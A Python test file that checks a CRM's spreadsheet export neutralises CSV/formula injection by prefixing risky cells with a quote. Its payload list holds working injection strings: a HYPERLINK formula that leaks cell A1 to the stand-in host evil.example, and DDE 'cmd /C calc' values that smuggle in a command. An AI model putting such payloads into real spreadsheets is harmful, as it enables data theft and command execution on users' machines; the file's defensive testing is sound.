"""Exported cells never start a formula (CSV / formula injection, OWASP)."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from crm_shared.spreadsheet import csv_bytes, safe_cell, safe_row
from lead_routing.domain.imports import parse_rows

PAYLOADS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1",
    "＝1+1",
    "＋86 138",
    "－5",
    "＠某人",
    "  =1+1",  # spaces first: some programs trim them
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_that_could_start_a_formula_gets_a_leading_quote(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("绍兴柯桥恒盛纺织有限公司", "绍兴柯桥恒盛纺织有限公司"),
        ("a=b", "a=b"),
        ("'=already quoted", "'=already quoted"),
        ("", ""),
        (None, ""),
        (-5, -5),
        (12.5, 12.5),
        (Decimal("-1.20"), Decimal("-1.20")),
        (True, "TRUE"),
        (date(2026, 1, 2), "2026-01-02"),
    ],
)
def test_other_values_are_left_as_they_are(value, cell) -> None:
    assert safe_cell(value) == cell


def test_an_imported_formula_is_stored_verbatim_and_exported_as_text() -> None:
    content = "公司名称,电话,地址\n=HYPERLINK(\"http://x\"),13805751234,\"@杭州\"\n".encode()
    data = parse_rows("x.csv", content, {})[0].data
    assert data is not None and data.company_name == '=HYPERLINK("http://x")'  # data, kept as written
    exported = csv_bytes(["公司名称", "电话", "地址"], [[data.company_name, data.phone, data.address]])
    assert exported.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"))))
    assert rows == [["公司名称", "电话", "地址"], ["'=HYPERLINK(\"http://x\")", "13805751234", "'@杭州"]]
    assert b'"\'=HYPERLINK(""http://x"")"' in exported  # every cell quoted, quotes doubled


def test_in_an_xlsx_a_safe_cell_is_text_not_a_formula() -> None:
    book = Workbook()
    book.active.append(safe_row(["=1+1", "-5", -5, "甲"]))
    out = io.BytesIO()
    book.save(out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    cells = next(sheet.iter_rows())
    assert [c.data_type for c in cells] == ["s", "s", "n", "s"]
    assert [c.value for c in cells] == ["'=1+1", "'-5", -5, "甲"]
    raw = Workbook()
    raw.active.append(["=1+1"])
    assert next(raw.active.iter_rows())[0].data_type == "f"  # what safe_cell prevents
